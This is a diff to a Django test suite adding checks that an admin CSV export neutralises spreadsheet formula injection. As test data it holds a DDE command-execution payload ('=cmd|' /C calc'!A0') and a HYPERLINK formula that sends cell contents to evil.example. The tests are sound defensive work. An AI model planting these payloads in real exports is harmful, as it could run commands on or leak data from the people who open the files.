@@ -1,4 +1,5 @@
-"""The CSV export action: a header row, then the selected rows' columns, money exact."""
+"""The CSV export action: a header row, then the selected rows' columns, money exact, and
+no cell a spreadsheet would run as a formula."""
 
 from __future__ import annotations
 
@@ -7,13 +8,18 @@ import datetime as dt
 import io
 from decimal import Decimal
 
+import pytest
+from django.contrib.admin import site
 from django.urls import reverse
 
 from projects.models import ProjectExpense
 from support.models import Ticket
+from surveys.models import SurveyResponse
+from synapse.admin_tools import csv_cell, export_rows
 from tests.factories import (
     EmployeeFactory,
     ProjectExpenseFactory,
+    SurveyResponseFactory,
     TicketFactory,
     TimeEntryFactory,
     UserFactory,
@@ -107,3 +113,67 @@ def test_export_of_every_row_matching_a_search(admin_client, db):
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert sorted(row[0] for row in rows[1:]) == ["HW-0", "HW-1", "HW-2"]
     assert sum(Decimal(row[4]) for row in rows[1:]) == Decimal("30.03")
+
+
+#: Text a spreadsheet would run as a formula, as people typed it into Synapse.
+FORMULAS = {
+    "subject": "=cmd|' /C calc'!A0",
+    "category": "-2+3+cmd|' /C calc'!A0",
+    "comment": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+    "note": "@SUM(A1:A9)",
+}
+
+
+def test_export_prefixes_text_a_spreadsheet_would_run_as_a_formula(admin_client, db):
+    ticket = TicketFactory(ref="TCK-1", subject=FORMULAS["subject"])
+    expense = ProjectExpenseFactory(
+        expense_id="X-1", category=FORMULAS["category"], amount=Decimal("5.00")
+    )
+
+    subject = dict(zip(*_export(admin_client, Ticket, [ticket.pk]), strict=True))["subject"]
+    category = dict(zip(*_export(admin_client, ProjectExpense, [expense.pk]), strict=True))[
+        "category"
+    ]
+
+    assert subject == "'=cmd|' /C calc'!A0"
+    assert category == "'-2+3+cmd|' /C calc'!A0"
+
+
+def test_export_rows_prefix_survey_comments_and_time_entry_notes(db):
+    response = SurveyResponseFactory(response_id="S-1", comment=FORMULAS["comment"])
+    entry = TimeEntryFactory(entry_id="T-1", note=FORMULAS["note"])
+
+    survey_rows = list(
+        export_rows(site._registry[SurveyResponse], ["response_id", "comment"], [response])
+    )
+    entry_rows = list(export_rows(site._registry[TimeEntry], ["entry_id", "note"], [entry]))
+
+    assert survey_rows[1] == ["S-1", "'" + FORMULAS["comment"]]
+    assert entry_rows[1] == ["T-1", "'@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@A1", "'@A1"),
+        ("\tinvisible", "'\tinvisible"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+31 20 555 0100", "'+31 20 555 0100"),
+        ("-1e5", "'-1e5"),
+        # Plain numbers stay numbers a spreadsheet adds up (money, hours, scores).
+        (Decimal("-5.00"), "-5.00"),
+        ("-5.00", "-5.00"),
+        ("+3", "+3"),
+        ("-.5", "-.5"),
+        (-7, "-7"),
+        # Text that only contains a formula character later is left alone.
+        ("a=b", "a=b"),
+        (" =1+1", " =1+1"),
+        ("", ""),
+    ],
+)
+def test_csv_cell_prefixes_formulas_and_keeps_plain_numbers(value, cell):
+    assert csv_cell(value) == cell
